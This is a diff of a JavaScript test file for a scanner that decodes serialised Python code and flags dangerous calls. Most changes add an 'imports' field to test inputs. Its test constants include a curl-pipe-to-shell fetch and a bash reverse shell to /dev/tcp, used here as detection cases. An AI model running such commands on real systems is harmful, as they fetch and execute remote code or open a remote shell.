@@ -92,13 +92,7 @@ describe('readMarshal', () => {
       expect(summary.names).toEqual(expect.arrayContaining(['os', 'system']));
       expect(summary.texts).toEqual(expect.arrayContaining(version === '2.7' ? ['echo a'] : []));
     }
-    expect(read('3.8', 'comprehension').text).toContain('<listcomp>: c = next(.0); os.system(c)');
-  });
-
-  it('lists names and constants where it knows no instructions, as of Python 2', () => {
-    const summary = read('2.7', 'import');
-    expect(summary.text).toBe("lambda x: …  # names: __import__, system; constants: 'os', 'echo hi'");
-    expect(summary).toMatchObject({ layout: '2', understood: false, complete: true });
+    expect(read('3.8', 'comprehension').text).toContain('<listcomp>: c = next(.0); append(os.system(c))');
   });
 
   it('lists names and constants of a Python that it does not know', () => {
@@ -240,14 +234,14 @@ describe('judgeCode', () => {
     }
   });
 
-  it.each(PYTHON3)('says nothing about arithmetic of Python %s', version => {
+  it.each(VERSIONS)('says nothing about arithmetic of Python %s', version => {
     for (const name of ['double', 'mean', 'condition', 'honest_eval']) {
       expect(judgeCode(read(version, name))).toBeUndefined();
     }
   });
 
   it('tells K.eval from the built-in only where the instructions are understood', () => {
-    const code = { names: ['K', 'eval'], paths: ['K', 'K.eval'], texts: [] };
+    const code = { imports: [], names: ['K', 'eval'], paths: ['K', 'K.eval'], texts: [] };
     expect(judgeCode({ ...code, understood: true })).toBeUndefined();
     expect(judgeCode({ ...code, understood: false })?.operator).toBe('eval');
   });
@@ -258,7 +252,7 @@ describe('judgeCode', () => {
     ['curl http://127.0.0.1:9/x | sh', ['HIGH', 'os', 'system']],
     ['bash -i >& /dev/tcp/127.0.0.1/9', ['HIGH', 'os', 'system']]
   ])('reads the constant %j', (text, [severity, module, operator]) => {
-    expect(judgeCode({ names: ['f'], paths: ['f'], texts: [text], understood: true })).toMatchObject({
+    expect(judgeCode({ names: ['f'], paths: ['f'], texts: [text], imports: [], understood: true })).toMatchObject({
       severity,
       module,
       operator
@@ -274,7 +268,9 @@ describe('judgeCode', () => {
       'ij,jk->ik',
       'https://keras.io'
     ];
-    expect(judgeCode({ names: ['tf', 'cast'], paths: ['tf', 'tf.cast'], texts, understood: true })).toBeUndefined();
+    expect(
+      judgeCode({ names: ['tf', 'cast'], paths: ['tf', 'tf.cast'], texts, imports: [], understood: true })
+    ).toBeUndefined();
   });
 
   it.each([
@@ -284,6 +280,6 @@ describe('judgeCode', () => {
     [['urllib', 'urllib.request', 'urllib.request.urlopen'], 'urlopen']
   ])('follows %j', (paths, operator) => {
     const names = [...new Set(paths.flatMap(path => path.split('.')))];
-    expect(judgeCode({ names, paths, texts: [], understood: true })?.names.join()).toContain(operator);
+    expect(judgeCode({ names, paths, texts: [], imports: [], understood: true })?.names.join()).toContain(operator);
   });
 });
